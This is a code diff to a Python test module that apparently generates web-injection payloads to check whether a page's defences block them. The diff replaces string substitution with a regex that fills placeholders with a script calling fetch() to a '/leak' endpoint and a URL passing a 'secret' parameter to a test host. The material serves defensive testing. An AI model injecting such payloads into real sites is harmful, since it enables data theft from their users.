@@ -6,6 +6,7 @@ theirs may run. Shown without the page's defences, the same payloads must reach 
 """
 
 import contextlib
+import re
 import socket
 import threading
 from collections.abc import Iterator, Sequence
@@ -135,14 +136,12 @@ def _payloads() -> list[str]:
     for kind in KINDS:
         for frame in FRAMES:
             n = len(made)
-            script = f"window.owned={n},fetch(`https://s{n}.{HOST}/leak`)"
-            address = f"https://h{n}.{HOST}/leak?secret={n}"
-            body = kind.replace("U", address, 9).replace("H/", f"h{n}.{HOST}/")
-            body = body.replace("//H", f"//h{n}.{HOST}")
-            # `S` alone: no letter of a word.
-            for before in (":", "=", ">", "'", "{", " ", "="):
-                for after in ("<", ")", ">", "'", "}", " ", "/", '"', "\n"):
-                    body = body.replace(f"{before}S{after}", f"{before}{script}{after}")
+            meant = {
+                "U": f"https://h{n}.{HOST}/leak?secret={n}",
+                "H": f"h{n}.{HOST}",
+                "S": f"window.owned={n},fetch(`https://s{n}.{HOST}/leak`)",
+            }
+            body = re.sub(r"\b[UHS]\b", lambda letter, meant=meant: meant[letter.group()], kind)
             made.append(frame.format(body.replace("\n", "\n> ") if ">" in frame[:1] else body))
     return made
 
